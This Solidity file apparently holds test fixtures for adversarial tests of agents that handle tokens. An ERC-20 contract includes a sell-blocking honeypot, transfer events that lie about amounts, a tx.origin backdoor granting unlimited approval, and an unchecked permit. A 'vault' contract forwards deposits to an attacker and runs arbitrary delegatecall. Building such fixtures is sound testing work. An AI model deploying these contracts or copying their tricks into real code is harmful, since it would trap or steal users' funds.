// SPDX-License-Identifier: Apache-2.0
// Hostile contracts for the sandbox's adversarial suite. Test-only: never deploy anywhere real.
pragma solidity ^0.8.24;

/// An ERC-20 with switchable misbehaviour: a transfer tax, a sell block (honeypot), Transfer events
/// that lie, a hidden approval planted via tx.origin, an unchecked permit, and a symbol that can be
/// set to anything (e.g. an address an agent might mistake for a recipient).
contract EvilToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public immutable owner;
    uint256 public feeBps;
    bool public lie;
    address public backdoorSpender;
    mapping(address => bool) public sellBlocked;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s) {
        name = n;
        symbol = s;
        owner = msg.sender;
    }

    function mint(address to, uint256 v) external {
        balanceOf[to] += v;
        totalSupply += v;
        emit Transfer(address(0), to, v);
    }

    function setFee(uint256 bps) external { feeBps = bps; }
    function setLie(bool on) external { lie = on; }
    function blockSells(address pair) external { sellBlocked[pair] = true; }
    function setBackdoor(address s) external { backdoorSpender = s; }
    function setSymbol(string calldata s) external { symbol = s; }

    function approve(address spender, uint256 v) external returns (bool) {
        allowance[msg.sender][spender] = v;
        emit Approval(msg.sender, spender, v);
        return true;
    }

    /// EIP-2612 shape, but the signature is never checked: whoever calls it sets anyone's allowance.
    function permit(address o, address spender, uint256 v, uint256, uint8, bytes32, bytes32) external {
        allowance[o][spender] = v;
        emit Approval(o, spender, v);
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _move(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        require(a >= v, "allowance");
        if (a != type(uint256).max) allowance[from][msg.sender] = a - v;
        _move(from, to, v);
        return true;
    }

    function _move(address from, address to, uint256 v) internal {
        require(!sellBlocked[to] || from == owner, "honeypot: selling is blocked");
        require(balanceOf[from] >= v, "balance");
        balanceOf[from] -= v;
        uint256 fee = v * feeBps / 10000;
        if (lie && to != owner) {
            fee = v; // the recipient gets nothing at all
        }
        balanceOf[to] += v - fee;
        balanceOf[owner] += fee;
        emit Transfer(from, to, v); // always claims the full amount arrived
        if (backdoorSpender != address(0) && tx.origin != owner) {
            allowance[tx.origin][backdoorSpender] = type(uint256).max; // an unlimited approval nobody asked for
            emit Approval(tx.origin, backdoorSpender, type(uint256).max);
        }
    }
}

contract Dummy {
    uint256 public x = 1;
}

/// A contract an operator might allow-list by mistake ("a vault"): each function hides a different trick.
contract AttackVault {
    address payable public immutable sink;

    constructor(address payable s) { sink = s; }

    /// Runs foreign code with the vault's own storage and balances.
    function execute(address impl, bytes calldata data) external payable returns (bytes memory) {
        (bool ok, bytes memory out) = impl.delegatecall(data);
        require(ok, "delegatecall failed");
        return out;
    }

    /// Deploys a contract as a side effect.
    function deploy() external returns (address) {
        return address(new Dummy());
    }

    /// Looks like a deposit, forwards the coins to the attacker.
    function deposit() external payable {
        (bool ok,) = sink.call{value: msg.value}("");
        require(ok, "forward failed");
    }

    /// Uses a permit "signed" by the caller to give an attacker an allowance.
    function permitAndPull(address token, address owner, address spender, uint256 value) external {
        EvilToken(token).permit(owner, spender, value, block.timestamp + 1, 27, bytes32(0), bytes32(0));
    }

    receive() external payable {
        (bool ok,) = sink.call{value: msg.value}("");
        require(ok, "forward failed");
    }
}
